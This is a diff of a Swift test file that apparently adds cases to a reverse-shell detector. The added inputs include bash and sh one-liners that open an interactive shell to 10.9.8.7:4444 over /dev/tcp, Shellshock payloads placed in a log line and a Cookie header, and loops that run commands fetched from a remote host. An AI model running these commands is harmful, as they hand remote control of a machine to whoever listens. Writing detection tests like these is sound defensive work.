@@ -23,6 +23,11 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "read H P <<< \"10.9.8.7 4444\"; bash -i >& /dev/tcp/$H/$P 0>&1",
     "for i in 10.9.8.7; do bash -i >& /dev/tcp/$i/4444 0>&1; done",
     "C2=10.9.8.7:4444; bash -i >& /dev/tcp/${C2%:*}/${C2#*:} 0>&1",
+    "exec {fd}<>/dev/tcp/10.9.8.7/4444; sh -i <&${fd} >&${fd} 2>&${fd}",
+    "exec >/dev/tcp/10.9.8.7/4444 0<&1 2>&1; exec bash -i",
+    // What a request came in with asks for no page.
+    "9.9.9.9 - - [3/Nov/2022:10:10:01 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"() { :;}; exec 5<>/dev/tcp/10.9.8.7/4444;cat <&5 | while read c; do $c >&5; done\"",
+    "GET / HTTP/1.1\r\nCookie: () { :;}; exec 5<>/dev/tcp/10.9.8.7/4444;cat <&5 | while read c; do $c >&5; done",
     "H=10.9.8.7; P=4444; bash -i >& /dev/tcp/\"$H\"/\"$P\" 0>&1", "bash -i >& /dev/tcp/'10.9.8.7'/'4444' 0>&1",
   ])
   func aDeviceFeedsAShell(text: String) {
@@ -37,6 +42,9 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "t=$(cat </dev/tcp/10.0.0.5/13); bash -c \"echo $t\"", "echo \"$(</dev/tcp/10.0.0.5/13)\"",
     "while read l; do echo \"$l\"; done </dev/tcp/10.0.0.5/13",
     "while read l; do $l; done <cmds >/dev/tcp/10.0.0.5/514",
+    "exec 3<>/dev/tcp/10.0.0.5/80; echo \"GET $d HTTP/1.0\" >&3; while read l; do $l; done <&3",
+    "exec >/dev/tcp/10.0.0.5/514 2>&1; exec bash -i",
+    "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.5 22 && ztcp -c'; cat <&5",
     "bash --rcfile x run.sh >& /dev/tcp/10.0.0.5/514", "sh run.sh 0>/dev/null >/dev/tcp/10.0.0.5/514",
     "source /dev/stdin", "the words '/dev/tcp/'+host and \"/dev/tcp/\" in bash -i",
     "script -qc 'make' /dev/null >/dev/tcp/10.0.0.5/514",
